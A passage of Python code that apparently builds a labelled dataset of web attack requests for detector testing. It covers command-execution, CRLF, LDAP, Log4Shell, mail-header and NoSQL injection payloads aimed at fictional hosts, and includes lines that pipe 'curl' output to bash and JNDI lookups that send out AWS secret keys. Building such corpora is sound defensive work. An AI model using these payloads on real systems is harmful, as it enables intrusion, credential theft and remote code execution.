        *flow,
        {"type": "filter", "code": PH},
    )
    g.json(
        "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().env')",
        True,
        *flow,
        {"type": "filter", "code": PH},
    )
    g.json(
        "require('child_process').execSync('cat /etc/passwd')", True, *flow, {"type": "code", "script": PH}, mode="u"
    )
    g.form(
        "eval(Buffer.from('" + b64("require('child_process').execSync('id')") + "','base64').toString())",
        True,
        "api.reportly.dev",
        "/v1/widgets",
        "transform",
        [("name", "kpi")],
    )
    g.form(
        "res.end(require('fs').readFileSync('/etc/passwd'))",
        False,
        "api.reportly.dev",
        "/v1/widgets",
        "formatter",
        [("name", "table")],
    )
    g.query("1;process.kill(process.pid)", False, *pricing, "weight_expr", [("zone", "EU")])
    g.json(
        "[]['constructor']['constructor']('return this')()['process']['mainModule']['require']('child_process')['execSync']('id')",
        True,
        *flow,
        {"type": "map", "script": PH},
    )

    g.query("%x(cat /etc/passwd)", True, *ruby, "snippet", [("lang", "ruby")])
    g.json("Open3.capture2('whoami')", False, *ruby, {"lang": "ruby", "snippet": PH})
    g.form("1.send(:eval, 'system(\"id\")')", True, *ruby, "snippet", [("lang", "ruby")])
    g.multipart("IO.popen('uname -a').read", False, *ruby, [part("lang", "ruby"), part("snippet", PH)])
    g.json("Kernel.exec('/bin/sh -c id')", False, *ruby, {"lang": "ruby", "snippet": PH}, method="PUT")
    g.xml(
        "Object.const_get('Kern'+'el').public_send('sys'+'tem','id')",
        True,
        *ruby,
        '<?xml version="1.0"?><job><lang>ruby</lang><snippet>{v}</snippet></job>',
    )

    g.json('Runtime.getRuntime().exec("touch /tmp/pwned")', False, *jvm, {"id": "r-17", "when": PH})
    g.json('new ProcessBuilder("bash","-c","id").start()', False, *jvm, {"id": "r-18", "when": PH})
    g.xml(
        'new javax.script.ScriptEngineManager().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")',
        False,
        *jvm,
        '<?xml version="1.0"?><rule id="r-19"><when>{v}</when><then>approve</then></rule>',
    )
    g.query(
        "T(java.lang.Runtime).getRuntime().exec('id')",
        False,
        "api.ordersvc.io",
        "/v1/orders",
        "filter",
        [("page", "0"), ("size", "20")],
    )
    g.header(
        "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}.multipart/form-data",
        False,
        "portal.bankcore.io",
        "/struts/upload.action",
        "Content-Type",
        method="POST",
    )
    g.json(
        'Class.forName("java.lang.Run"+"time").getMethod("getRuntime").invoke(null).exec("id")',
        True,
        *jvm,
        {"id": "r-20", "when": PH},
    )
    g.path(
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        False,
        "portal.bankcore.io",
        "/app/page/{}",
        mode="lite",
    )

    g.form("print `id`", False, "legacy.harborbank.com", "/cgi-bin/calc.pl", "expr", [("mode", "simple")])
    g.query(
        "eval(pack('H*','" + "system('id')".encode().hex() + "'))",
        True,
        "legacy.harborbank.com",
        "/cgi-bin/calc.pl",
        "expr",
        [],
    )
    g.json("os.execute('id')", False, "api.blockforge.gg", "/v1/mods/validate", {"mod": "greeter", "lua": PH})
    g.multipart(
        "import os\nos.system('curl -s 203.0.113.4/b|bash')\n",
        False,
        "plugins.datagrove.io",
        "/api/plugins",
        [part("name", "csv-cleaner"), part("plugin", PH, "plugin.py", "text/x-python")],
    )
    g.query(
        'System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
        False,
        "reports.fintrail.io",
        "/api/reports/formula",
        "expr",
        [("report", "q3")],
    )
    node_ser = "{\"username\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(){})}()\"}"
    g.cookie(b64(node_ser), True, "app.tasklane.io", "/dashboard", "profile", [("connect.sid", "s%3A" + ralnum(32))])
    g.json(
        "{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}",
        False,
        "mail.postbox-tools.com",
        "/api/greetings/preview",
        {"greeting": PH, "user_id": 4411},
    )


def attacks_crlf():
    g = A("crlf")
    shop = "shop.northwind-outfitters.com"
    g.query("/dashboard\r\nSet-Cookie: sid=attacker123", False, shop, "/account/login", "next", [])
    g.query(
        "https://shop.northwind-outfitters.com/\r\nLocation: https://evil.example.net/",
        False,
        "auth.idgate.io",
        "/logout",
        "return_to",
        [("client_id", "shop-web")],
    )
    g.query(
        "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
        False,
        "www.bluefinch.co.uk",
        "/set-language",
        "lang",
        [],
    )
    g.query("/\nSet-Cookie: admin=1", True, "go.tracklinkr.com", "/r", "url", [("cid", "8812")])
    g.query("/home\rSet-Cookie: x=1", True, "go.tracklinkr.com", "/r", "url", [("cid", "8813")])
    g.query("/\u560a\u560dSet-Cookie: session=fixated", True, shop, "/account/login", "redirect", [])
    g.query("%0d%0aSet-Cookie: x=1", True, shop, "/account/login", "next", [("ref", "nav")])
    g.query("/account\r\n\tX-Injected: folded", True, "auth.idgate.io", "/login", "return_url", [])
    g.query(
        "report.csv\r\nContent-Disposition: inline\r\nContent-Type: text/html",
        False,
        "api.cartwheel.io",
        "/v1/exports/download",
        "filename",
        [("id", "5521")],
    )
    g.query(
        "alice\n2026-12-01T10:00:00Z INFO auth success user=admin role=admin",
        True,
        "secure.harborbank.com",
        "/api/login/precheck",
        "username",
        [],
    )
    g.query("%E5%98%8A%E5%98%8DSet-Cookie: a=b", True, "www.bluefinch.co.uk", "/set-currency", "cur", [])
    g.query(
        "/%u000d%u000aSet-Cookie: x=y", True, "intranet.contoso-legal.com", "/redirect.aspx", "target", [], mode="raw"
    )
    g.query("/\r\nSet-Cookie: a=1", True, "go.tracklinkr.com", "/r", "url", [("cid", "9001")], mode="all")
    g.query_key(
        "utm_source\r\nSet-Cookie: a",
        "b",
        False,
        "www.bluefinch.co.uk",
        "/landing",
        [("utm_medium", "email")],
        kmode="std",
    )

    g.path("\r\nSet-Cookie:crlf=injection", False, shop, "/{}")
    g.path("\r\nLocation: https://evil.example/", False, "go.tracklinkr.com", "/r/{}")
    g.path("report.pdf\r\nX-Accel-Redirect: /internal/secrets", False, "api.ledgerly.app", "/v1/files/{}")
    g.path("\u560a\u560dSet-Cookie:test", True, shop, "/{}")
    g.path("\nLocation: //evil.example", True, "www.bluefinch.co.uk", "/lang/{}", mode="lite")
    g.path("%0d%0aSet-Cookie: a=b", True, "go.tracklinkr.com", "/out/{}")

    g.header(
        "shop.northwind-outfitters.com%0d%0aX-Injected: 1",
        False,
        shop,
        "/password/reset",
        "X-Forwarded-Host",
        method="POST",
        body="email=kim%40example.com",
        ctype="application/x-www-form-urlencoded",
    )
    g.header(
        "https://www.bluefinch.co.uk/cart%0aLocation:%20//evil.example",
        True,
        "www.bluefinch.co.uk",
        "/checkout",
        "Referer",
    )
    g.header("b7e2c1%0d%0aSet-Cookie:%20sess=0wn3d", False, "api.tasklane.io", "/v2/tasks", "X-Request-Id")
    g.header("%E5%98%8A%E5%98%8DSet-Cookie:%20a=1", True, "api.tasklane.io", "/v2/tasks", "X-Correlation-ID")
    g.header("Mozilla/5.0%0d%0aX-Forwarded-For:%20127.0.0.1", False, "cms.dailyharbor.news", "/", "User-Agent")
    g.header(
        "/admin%0d%0aContent-Length:%200%0d%0a%0d%0aGET%20/admin%20HTTP/1.1",
        False,
        "admin.pressroom.media",
        "/",
        "X-Original-URL",
    )
    g.header("https%0D%0ATransfer-Encoding:%20chunked", False, "api.cartwheel.io", "/v1/cart", "X-Forwarded-Proto")

    g.cookie("en\r\nSet-Cookie: role=admin", False, "www.bluefinch.co.uk", "/", "lang", [("cart", "0")])
    g.cookie("/orders\nLocation: https://evil.example", True, shop, "/account", "returnTo", [("sid", rhex(32))])
    g.cookie(
        "dark\rX-XSS-Protection: 0",
        True,
        "app.tasklane.io",
        "/settings",
        "theme",
        [("tl_sess", ralnum(24))],
        mode="mixed",
    )

    g.json(
        "invoice.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
        False,
        "api.ledgerly.app",
        "/v1/invoices/8812/export",
        {"format": "pdf", "filename": PH},
    )
    g.json(
        "/done\r\nSet-Cookie: a=b",
        True,
        "pay.mercato.app",
        "/api/checkout/session",
        {"amount": 4999, "redirect": PH},
        mode="u",
    )
    g.jkey(
        "X-Test\r\nSet-Cookie: evil=1",
        False,
        "hooks.relaybox.dev",
        "/api/webhooks/test",
        {"url": "https://hooks.example.org/in", "headers": {"X-Test\r\nSet-Cookie: evil=1": "v"}},
    )
    g.json(
        "de\nSet-Cookie: l=1",
        True,
        "app.tasklane.io",
        "/api/me/preferences",
        {"locale": PH, "timezone": "Europe/Berlin"},
        method="PATCH",
    )

    g.form(
        "/home\r\nRefresh: 0; url=https://evil.example/",
        False,
        shop,
        "/account/login",
        "redirect_url",
        [("email", "kim@example.com"), ("password", "hunter22")],
    )
    g.form(
        "/\r\n\r\n<html><body>Session expired, sign in again</body></html>",
        False,
        "auth.idgate.io",
        "/login",
        "next",
        [("user", "dana")],
    )
    g.form("%0D%0ASet-Cookie:%20x=y", True, "auth.idgate.io", "/login", "location", [("user", "lee")])

    g.multipart(
        "Sam\r\nSet-Cookie: sid=1",
        False,
        "app.tasklane.io",
        "/api/me/avatar",
        [part("display_name", PH), part("avatar", SVG_STUB, "me.svg", "image/svg+xml")],
    )
    g.xml(
        "/ok\r\nSet-Cookie: a=b",
        True,
        "sso.harborbank.com",
        "/saml/relay",
        '<?xml version="1.0"?><relay><redirect>{v}</redirect></relay>',
        mode="ent",
    )
    g.xml(
        "/home\nLocation: http://evil.example/",
        True,
        "sso.harborbank.com",
        "/saml/relay",
        '<?xml version="1.0"?><relay><returnUrl>{v}</returnUrl></relay>',
    )


def attacks_ldapi():
    g = A("ldapi")
    dirs = ("directory.corp-intra.net", "/api/people/search")
    sso = ("sso.harborbank.com", "/login")
    staff = ("api.staffbook.io", "/v1/users")
    wiki = ("wiki.saltmarsh.dev", "/ldap/lookup")
    hd = ("helpdesk.helpdeskr.com", "/api/agents/lookup")

    g.query("*)(uid=*))(|(uid=*", False, *dirs, "q", [("limit", "25")])
    g.query("admin)(&)", False, *wiki, "uid", [])
    g.query("admin)(|(password=*))", False, *wiki, "uid", [("attrs", "cn,mail")])
    g.query("*)(objectClass=*", True, *dirs, "q", [("limit", "10")], mode="mixed")
    g.query("jsmith)(|(mail=*))", True, *staff, "user", [], mode="mixed")
    g.query("*))\x00", True, *wiki, "uid", [])
    g.query("%2a%29%28uid%3d%2a", True, *dirs, "q", [])
    g.query("admin)(userPassword=a*", True, *wiki, "uid", [], mode="all")
    g.query("*)(description=*pass*", False, *dirs, "cn", [("limit", "50")])
    g.query(
        "(&(objectClass=user)(|(cn=*)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local)))",
        False,
        *staff,
        "filter",
        [("page", "1")],
    )
    g.query("admin*)((|userpassword=*)", False, *wiki, "uid", [])
    g.query("admin)(!(&(1=0", False, *staff, "user", [])
    g.query("*)(|(cn=*)(mail=*", True, *dirs, "q", [], mode="all")
    g.query("admin%29%28%7C%28uid%3D%2A%29%29", True, *wiki, "uid", [])
    g.query("*)(|(sn=a*)(sn=b*", False, *dirs, "q", [("limit", "5")])
    g.query("x)(|(homeDirectory=*)", False, *staff, "user", [])

    g.form("*)(uid=*))(|(uid=*", False, *sso, "username", [("password", "whatever1")])
    g.form("admin)(&)", False, *sso, "username", [("password", "anything")])
    g.form("admin)(|(objectClass=*", True, *sso, "username", [("password", "x")], mode="all")
    g.form(
        "admin)(!(userAccountControl:1.2.840.113556.1.4.803:=2))",
        False,
        "vpn.fintrail.io",
        "/remote/logincheck",
        "username",
        [("credential", "Winter2026"), ("realm", "")],
    )
    g.form(
        "*)(&(objectClass=person)(sn=*",
        False,
        "vpn.fintrail.io",
        "/remote/logincheck",
        "username",
        [("credential", "pw")],
    )
    g.form("admin)(userPassword=s*", False, *sso, "username", [("password", "irrelevant")])
    g.form("*)(uid=*))(|(uid=*", True, *sso, "username", [("password", "pw")], mode="mixed")
    g.form("x)(|(userPassword=*))", False, *sso, "password", [("username", "jdoe")])

    g.json("*)(mail=*@corp.example", False, *hd, {"uid": PH})
    g.json("*)(|(objectclass=*)", True, *hd, {"uid": PH, "fields": ["cn", "mail"]}, mode="u")
    g.json("jdoe*)(telephoneNumber=*", True, *hd, {"search": PH}, mode="u")
    g.json("admin)(|(userPassword=*", True, *hd, {"uid": PH, "fields": ["cn"]}, mode="u")
    g.json("(|(uid=*)(cn=admin*))", False, "api.staffbook.io", "/v1/users/query", {"filter": PH, "size": 100})
    g.json("Domain Admins)(|(member=*", False, "api.staffbook.io", "/v1/groups/members", {"group": PH})

    g.header("*)(uid=*))(|(uid=*", False, "reports.corp-intra.net", "/api/me", "X-Remote-User")
    g.header("admin)(|(objectClass=*))", False, "grafana.corp-intra.net", "/api/user", "X-Forwarded-User")
    g.header("Basic " + b64("*)(uid=*:x"), True, "svn.corp-intra.net", "/repos/", "Authorization")

    g.cookie("admin)(&)", True, "wiki.saltmarsh.dev", "/dashboard", "uid", [("wsess", rhex(20))], mode="mixed")
    g.cookie("*)(|(cn=*", False, "directory.corp-intra.net", "/me", "dn_hint", [("sid", rhex(26))])

    g.multipart(
        "*)(title=*admin*",
        False,
        "api.staffbook.io",
        "/v1/import/managers",
        [part("manager", PH), part("sheet", CSV_STUB, "managers.csv", "text/csv")],
    )
    g.xml(
        "*)(uid=*))(|(uid=*",
        False,
        "idm.corp-intra.net",
        "/soap/UserLookup",
        '<?xml version="1.0"?><lookup><uid>{v}</uid><attrs>cn mail</attrs></lookup>',
    )
    g.xml(
        "*)(uid=*",
        True,
        "idm.corp-intra.net",
        "/soap/UserLookup",
        '<?xml version="1.0"?><lookup><uid>{v}</uid></lookup>',
        mode="ent",
    )

    g.path("*)(objectClass=*", False, "directory.corp-intra.net", "/api/people/{}", mode="lite")
    g.path("admin)(|(memberOf=*", False, "directory.corp-intra.net", "/directory/users/{}/groups")


def attacks_log4shell():
    g = A("log4shell")
    ship = ("api.shipmatic.io", "/v1/track")
    bank = ("portal.bankcore.io", "/api/login")
    vc = ("vcenter.corp-intra.net", "/websso/SAML2/SSO/vsphere.local")
    mdm = ("mdm.fleetops.net", "/api/devices/enroll")
    lib = ("search.libris.org", "/api/v1/search")
    game = ("game.blockforge.gg", "/api/chat/send")

    g.header("${jndi:ldap://203.0.113.20:1389/a}", False, *ship, "User-Agent", query="id=1Z999AA10123456784")
    g.header("${jndi:rmi://198.51.100.33:1099/Exploit}", False, *mdm, "X-Api-Version")
    g.header("${jndi:dns://x7f3k.oast.example/}", False, *lib, "Referer", query="q=maps")
    g.header("${jndi:ldaps://203.0.113.20/o=reference}", False, *vc, "X-Forwarded-For")
    g.query("${jndi:iiop://198.51.100.33/x}", False, *lib, "q", [("page", "1")])
    g.json("${jndi:http://203.0.113.21/payload.class}", False, *bank, {"username": PH, "password": "Password1"})
    g.header("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.oast.example/}", False, *ship, "X-Request-Id")
    g.cookie(
        "${jndi:ldap://${sys:java.version}.${hostName}.oast.example/a}",
        False,
        *bank,
        "remember_me",
        [("JSESSIONID", rhex(32).upper())],
        mode="lite",
    )
    g.header("${${lower:j}ndi:${lower:l}dap://203.0.113.20/x}", True, *ship, "User-Agent")
    g.header("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.12/poc}", True, *mdm, "X-Api-Version")
    g.query(
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.20/a}", True, *lib, "q", []
    )
    g.json(
        "${${upper:j}ndi:${upper:l}${upper:d}a${upper:p}://198.51.100.7/b}",
        True,
        *game,
        {"channel": "global", "message": PH},
    )
    g.form("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.22/c}", True, *bank, "username", [("password", "qwerty")])
    g.header("${j${main:x:-N}d${spring:y:-i}:ldap://203.0.113.22/d}", True, *vc, "X-Forwarded-Host")
    g.json(
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.23/e}",
        True,
        *mdm,
        {"serial": PH, "model": "TC52"},
    )
    g.cookie(
        "${${base64:" + b64("${jndi:ldap://203.0.113.24/f}") + "}}",
        True,
        *ship,
        "last_query",
        [("sid", rhex(20))],
        mode="lite",
    )
    g.query("%24%7Bjndi:ldap://203.0.113.25/g%7D", True, *lib, "q", [("lang", "en")])
    g.json("${jndi:ldap://203.0.113.26/h}", True, *game, {"channel": "trade", "message": PH}, mode="u")
    g.header(
        "Bearer ${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.8/i}",
        True,
        "api.fintrail.io",
        "/v2/accounts",
        "Authorization",
    )
    g.path(
        "${${lower:${lower:jndi}}:${lower:rmi}://198.51.100.9/j}",
        True,
        "api.shipmatic.io",
        "/v1/parcels/{}",
        mode="lite",
    )
    g.header(
        "$%7Bjndi:ldap://203.0.113.27/k%7D",
        True,
        "helpdesk.helpdeskr.com",
        "/servicedesk/customer/portal/2",
        "X-Client-IP",
    )
    g.query("${jndi:ldap://127.0.0.1#evil.oast.example:1389/l}", True, *lib, "author", [("sort", "year")])
    g.form(
        "${jNdI:LdAp://203.0.113.28/m}", True, "forum.gearheads.community", "/login", "user", [("pass", "bikes4life")]
    )
    g.header("${${ctx:x:-j}ndi:ldap://203.0.113.29/n}", True, *mdm, "X-Client-Id")
    g.query(
        "${jndi:ldap://203.0.113.30:1389/Basic/Command/Base64/" + b64("curl 203.0.113.30/s|sh") + "}",
        False,
        *lib,
        "q",
        [],
    )
    g.json("${jndi:ldap://[::ffff:cb00:711f]:1389/o}", True, *bank, {"username": "k.ito", "otp": PH})
    g.multipart(
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.10/p}",
        True,
        "hr.staffbook.io",
        "/api/applications",
        [part("full_name", PH), part("cv", TXT_STUB, "cv.txt", "text/plain")],
    )
    g.multipart(
        "${jndi:ldap://log4j.203.0.113.31.oast.example/q}",
        False,
        "files.docuvault.com",
        "/upload",
        [part("file", TXT_STUB, PH, "text/plain")],
    )
    g.xml(
        "${jndi:dns://${hostName}.oast.example}",
        False,
        "soap.bankcore.io",
        "/ws/AccountService",
        '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getAccount><accountId>{v}</accountId></getAccount></soapenv:Body></soapenv:Envelope>',
        ctype="text/xml; charset=utf-8",
    )
    g.xml(
        "${jndi:ldap://203.0.113.32/r}",
        True,
        "soap.bankcore.io",
        "/ws/AccountService",
        '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getAccount><accountId>{v}</accountId></getAccount></soapenv:Body></soapenv:Envelope>',
        mode="ent",
        ctype="text/xml; charset=utf-8",
    )
    g.path("${jndi:rmi://198.51.100.34/s}", False, "search.libris.org", "/books/{}", mode="lite")
    g.query_key("${jndi:ldap://203.0.113.33/t}", "1", False, *lib, [("q", "history")], kmode="std")
    g.jkey(
        "${jndi:ldap://203.0.113.34/u}",
        False,
        "api.tasklane.io",
        "/v2/labels",
        {"${jndi:ldap://203.0.113.34/u}": "x", "color": "#ff0"},
    )
    g.header(
        "${jndi:ldap://203.0.113.35/v}",
        False,
        "api.tasklane.io",
        "/v2/session",
        "Origin",
        method="POST",
        body="{}",
        ctype="application/json",
    )
    g.cookie(
        "${jndi:ldap://203.0.113.36/w}",
        False,
        "portal.bankcore.io",
        "/home",
        "remember-me",
        [("XSRF-TOKEN", ruuid())],
        mode="lite",
    )
    g.form("${jndi:ldap://203.0.113.37/x}", False, *bank, "username", [("password", "letmein")])
    g.form("${jndi:ldap://203.0.113.38/y}", True, *bank, "username", [("password", "pass")], mode="mixed")
    g.header("${jndi:nis://198.51.100.11/z}", False, "mdm.fleetops.net", "/", "X-Wap-Profile")
    g.json(
        "${${lower:${::-j}}${lower:n}${::-d}${upper:i}:${lower:l}${::-d}ap://203.0.113.39/aa}",
        True,
        *game,
        {"channel": "global", "message": PH},
    )
    g.query("${jndi:corba://198.51.100.12/bb}", False, *ship, "ref", [("carrier", "dhl")])


def attacks_mail_injection():
    g = A("mail_injection")
    contact = ("www.bluefinch.co.uk", "/contact")
    share = ("shop.northwind-outfitters.com", "/share/product")
    news = ("news.dailyharbor.news", "/api/newsletter/subscribe")
    tickets = ("api.helpdeskr.com", "/v1/tickets")
    send = ("api.postbox-tools.com", "/v2/send")
    forgot = ("auth.idgate.io", "/password/forgot")

    def cf(field, value, hard, **kw):
        base = {
            "name": "Jamie Reed",
            "email": "jamie.reed@example.com",
            "subject": "Order question",
            "message": "Hi, where is my order?",
        }
        others = [(k, v) for k, v in base.items() if k != field]
        g.form(value, hard, *contact, field, others, **kw)

    cf("email", "victim@example.com\r\nBcc: list1@spam.example, list2@spam.example", False)
    cf("name", "Alice\r\nCc: everyone@corp.example", False)
    cf("subject", "Hello\r\nBcc: x@spam.example\r\nContent-Type: text/html", False)
    cf("email", "attacker@evil.example%0ACc:victim@bank.example", True)
    cf("email", "u@example.com\nBcc: spam@example.net", True)
    cf("email", "sender@example.org\r\nTo: victim1@example.com, victim2@example.com", False)
    cf(
        "message",
        "hi\r\n.\r\nMAIL FROM:<spam@evil.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: deal\r\n\r\nbuy now\r\n.\r\nQUIT",
        False,
    )
    g.json("friend@example.com>\r\nRCPT TO:<victim@example.com", False, *send, {"to": PH, "template": "welcome"})
    cf("email", r'"attacker\" -oQ/tmp/ -X/var/www/html/shell.php some"@email.com', True)
    g.header(
        "ops@example.com%0d%0aBcc: list@spam.example",
        False,
        "api.fleetops.net",
        "/v1/alerts/subscribe",
        "X-Notify-Email",
        method="POST",
        body='{"level":"critical"}',
        ctype="application/json",
    )
    g.cookie(
        "me@example.com\r\nBcc: harvest@spam.example",
        False,
        *share,
        "remembered_email",
        [("sid", rhex(32))],
        method="POST",
        body="product=MUG-01&to=pal%40example.com",
        ctype="application/x-www-form-urlencoded",
    )
    g.json(
        "Invoice\r\nBcc: all@spam.example",
        True,
        *send,
        {"to": "billing@example.com", "subject": PH, "text": "See attached."},
        mode="u",
    )
    g.json(
        "=?UTF-8?Q?Hi=0D=0ABcc=3A_spam=40evil.example?=",
        True,
        *send,
        {"to": "me@example.com", "subject": PH, "text": "hello"},
    )
    g.json(
        "victim@example.com\r\n\r\nYour account is locked, visit https://evil.example/unlock",
        False,
        *send,
        {"to": PH, "subject": "Notice"},
    )
    cf("email", "a@example.com\r\nX-Mailer: bulk\r\nBcc: b@spam.example", False)
    g.xml(
        "a@b.com\r\nBcc: x@y.example",
        True,
        "crm.ledgerly.app",
        "/api/contacts",
        '<?xml version="1.0" encoding="UTF-8"?><contact><name>Lin</name><email>{v}</email></contact>',
        mode="ent",
    )
    g.multipart(
        "support@corp.example\r\nBcc: leak@evil.example",
        False,
        "careers.staffbook.io",
        "/apply",
        [part("name", "Rae"), part("email", PH), part("cv", TXT_STUB, "cv.txt", "text/plain")],
    )
    g.path(
        "victim@example.com\r\nBcc: spam@evil.example",
        False,
        "news.dailyharbor.news",
        "/api/newsletter/unsubscribe/{}",
        method="DELETE",
    )
    g.query("friend@example.com\r\nCc: spam1@evil.example", False, *share, "to", [("product", "TEE-RED-M")])
    cf(
        "message",
        "test\r\n.\r\nRSET\r\nHELO evil.example\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<y@example.com>\r\nDATA",
        False,
    )
    cf(
        "name",
        "Bob\r\nContent-Type: multipart/mixed; boundary=ZZZ\r\n\r\n--ZZZ\r\nContent-Type: text/html\r\n\r\n<a href=https://evil.example>Reset</a>\r\n--ZZZ--",
        False,
    )
    g.form("x@example.com\r\nReply-To: phisher@evil.example", False, *forgot, "email", [])
    cf("subject", "Order\r\nBcc: mass@spam.example", True, mode="mixed")
    g.json(
        "Support Team\nSender: ceo@victim-corp.example",
        True,
        *send,
        {"from_name": PH, "to": "a@example.com", "text": "hi"},
    )
    g.json(
        "help@example.com\rBcc: cr@spam.example",
        True,
        *tickets,
        {"reply_to": PH, "subject": "Refund", "body": "Please refund"},
    )
    g.query("me@example.com%0d%0aBcc:spam@evil.example", True, "auth.idgate.io", "/password/forgot", "email", [])
    g.query("me@example.com\r\nBcc: x@spam.example", True, *share, "to", [("product", "MUG-01")], mode="all")
    g.header(
        "support@shop.example%0ABcc:%20x@spam.example",
        True,
        *tickets,
        "X-Reply-To",
        method="POST",
        body='{"subject":"hi"}',
        ctype="application/json",
    )
    g.cookie("joe@example.com\nCc: y@spam.example", True, *news, "newsletter_email", [("consent", "1")], mode="mixed")
    g.json(
        "a@example.com\r\nBcc: b@spam.example",
        False,
        *send,
        {"recipients": ["ok@example.com", PH], "subject": "Team update"},
    )
    g.xml(
        "Hi\nBcc: cdata@spam.example",
        True,
        "crm.ledgerly.app",
        "/api/messages",
        '<?xml version="1.0"?><message><to>lin@example.com</to><subject>{v}</subject></message>',
        mode="cdata",
    )
    g.multipart(
        "Weekly report\r\nBcc: z@spam.example",
        False,
        "api.postbox-tools.com",
        "/v2/send/attachment",
        [part("to", "boss@example.com"), part("subject", PH), part("attachment", CSV_STUB, "report.csv", "text/csv")],
    )
    g.form("me@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php", True, *forgot, "email", [])
    g.json("team@example.com%0ABcc:harvest@evil.example", True, *send, {"to": "a@example.com", "cc": PH, "text": "fyi"})
    g.json(
        "Eve\r\nTo: ceo@victim-corp.example\r\nSubject: urgent wire",
        False,
        *tickets,
        {"name": PH, "email": "eve@example.com", "body": "hello"},
    )
    cf("subject", "Re: quote\r\nX-Priority: 1\r\nBcc: q@spam.example", False)
    g.path(
        "friend@example.com\nBcc: p@spam.example",
        True,
        "shop.northwind-outfitters.com",
        "/share/{}/email",
        mode="lite",
        method="POST",
        body="product=MUG-01",
        ctype="application/x-www-form-urlencoded",
    )
    cf(
        "message",
        "hello\n.\r\nMAIL FROM:<admin@victim-corp.example>\r\nRCPT TO:<target@example.com>\r\nDATA\r\nFrom: admin@victim-corp.example\r\n\r\nsmuggled\r\n.\r\n",
        True,
    )
    g.header("bot@crawler.example%0d%0aBcc:%20z@spam.example", False, "www.bluefinch.co.uk", "/contact", "From")
    g.json(
        "Kim\r\nBcc: tv@spam.example",
        False,
        *send,
        {"template": "order_shipped", "template_vars": {"first_name": PH, "order": "A-1009"}},
    )


def attacks_nosqli():
    g = A("nosqli")
    cart = ("api.cartwheel.io", "/v1/auth/login")
    task = ("app.tasklane.io", "/api/login")
    fit = ("api.fitpulse.app", "/v2/users")
    shipq = ("api.shipmatic.io", "/v1/shipments")
    cms = ("cms.dailyharbor.news", "/api/articles")

    g.jobj({"$ne": None}, False, *cart, {"username": "admin", "password": {"$ne": None}})
    g.jobj({"$gt": ""}, False, *task, {"username": {"$gt": ""}, "password": {"$gt": ""}})
    g.jobj({"$regex": "^adm"}, False, *cart, {"username": {"$regex": "^adm"}, "password": {"$ne": "x"}})
    g.jobj(
        {"$where": "sleep(5000) || true"},
        False,
        "api.fitpulse.app",
        "/v2/workouts/search",
        {"filter": {"$where": "sleep(5000) || true"}, "limit": 10},
    )
    g.jobj(
        {"$in": ["admin@corp.example", "root@corp.example"]},
        False,
        *task,
        {"email": {"$in": ["admin@corp.example", "root@corp.example"]}, "password": {"$ne": ""}},
    )
    g.jobj(
        {"$where": "this.role=='admin'||'1'=='1'"},
        False,
        "api.fitpulse.app",
        "/v2/users/find",
        {"$where": "this.role=='admin'||'1'=='1'"},
        placement="json_key",
    )
    g.jobj(
        {"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}},
        False,
        *shipq,
        {"filter": {"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}},
    )
    g.jobj(
        {"$or": [{}, {"a": "a"}]},
        False,
        "api.fitpulse.app",
        "/v2/users/find",
        {"$or": [{}, {"a": "a"}]},
        placement="json_key",
    )
    g.jobj(
        {"$exists": True},
        True,
        "secure.harborbank.com",
        "/api/session",
        {"username": "admin", "password": {"$exists": True}},
        transform=lambda t: t.replace('"$exists"', '"\\u0024exists"'),
    )
    g.jobj(
        {"$type": 2},
        False,
        "auth.idgate.io",
        "/api/password/reset",
        {"email": "ceo@example.com", "token": {"$type": 2}, "new_password": "N3wPass!"},
    )
    g.jobj(
        {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
        False,
        "api.ledgerly.app",
        "/v1/reports/aggregate",
        {
            "pipeline": [
                {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                {"$project": {"u.password": 1}},
            ]
        },
    )
    g.jobj(
        {"$gt": None}, False, "db.couch-notes.app", "/notes/_find", {"selector": {"_id": {"$gt": None}}, "limit": 500}
    )
    g.jobj(
        {"$ne": None},
        True,
        *cart,
        {"username": "admin", "password": {"$ne": None}},
        transform=lambda t: t.replace('"$ne"', '"\\u0024ne"'),
    )
    g.jobj({"$nin": [""]}, False, *task, {"username": {"$nin": [""]}, "password": {"$nin": [""]}})
    g.jobj(
        {"$regex": ".*"},
        False,
        "secure.harborbank.com",
        "/api/session",
        {"username": "admin", "password": {"$regex": ".*"}},
    )
    g.jobj({"$not": {"$eq": "x"}}, True, *cart, {"email": "a@b.c", "password": {"$not": {"$eq": "x"}}})
    g.jobj(
        {"$gt": ""},
        True,
        *task,
        {"user": {"$gt": ""}, "pass": "x"},
        transform=lambda t: t.replace('"$gt"', '"\\u0024\\u0067\\u0074"'),
    )
